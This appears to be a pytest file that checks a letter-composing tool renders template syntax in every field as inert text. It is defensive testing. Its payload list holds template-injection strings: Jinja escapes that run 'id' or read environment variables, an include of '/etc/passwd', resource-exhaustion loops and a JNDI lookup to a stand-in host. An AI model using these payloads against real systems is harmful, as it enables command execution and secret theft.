"""Case 69: what looks like a template is text, in every field; none of it runs."""

import pytest
from good_letters import FIELDS, a_person, compose_with, read_both

from core.values import Language

PAYLOADS = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ settings }}",
    "{{ config.items() }}",
    "{{ settings.secret_key.get_secret_value() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.environ['HOME'] }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{{ request.application.__globals__ }}",
    "{{ url_for.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ [].__class__.__base__ }}",
    "{{ ()|attr('__class__') }}",
    "{{ 'a'*10**9 }}",
    "{{ range(10**9)|list }}",
    "{% for i in range(10**9) %}{% for j in range(10**9) %}x{% endfor %}{% endfor %}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{% include '/etc/passwd' %}",
    "{% include 'letter.html' %}",
    "{% extends 'letter.html' %}",
    "{% import os %}{{ os.environ }}",
    "{% set x = 1 %}{{ x }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{# comment #}",
    "{% debug %}",
    "{0}",
    "{}",
    "{name}",
    "{organisation}",
    "{0.__class__}",
    "{0.__init__.__globals__}",
    "{name.__class__.__mro__}",
    "{number!r:>999999999}",
    "{:>999999999}",
    "%s %n %x",
    "%(name)s",
    "%b%b%b",
    "%999999999d",
    "${7*7}",
    "${env:HOME}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<% system('id') %>",
    "*{7*7}",
    "@{7*7}",
    "${jndi:ldap://evil.test/a}",
    "$(id)",
    "`id`",
    "-name-",
    "%recipient.name%",
    "*|FNAME|*",
    "\ue000\ue001\ue002\ue003\ue004\ue00f",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_any_field_is_text(payload, monkeypatch):
    monkeypatch.setenv("PARUTION_PROBE", "TOP-SECRET-ENVIRONMENT")
    plain, page = read_both(
        compose_with(**dict.fromkeys(FIELDS, f"before {payload} after")),
        a_person(name=f"before {payload} after"),
    )
    for said in (plain, page):
        for evaluated in (
            "7777777",
            "before 49 after",
            "TOP-SECRET",
            "uid=",
            "root:x:",
        ):
            assert evaluated not in said
        assert len(said) < 40_000
    kept = "".join(sign for sign in payload if not "\ue000" <= sign <= "\uf8ff")
    lines = [line.strip() for line in plain.split("\n")]
    assert any(line == " ".join(f"before {kept} after".split()) for line in lines)


def test_the_offices_secrets_are_in_no_mail():
    for language in Language:
        plain, page = read_both(compose_with(language=language), a_person())
        assert "TOP-SECRET" not in plain + page


def test_a_payload_of_a_megabyte_is_text_too():
    loop = "{% for x in y %}"
    plain, _ = read_both(compose_with(body=loop * 60_000), a_person())
    assert plain.count(loop) == 60_000
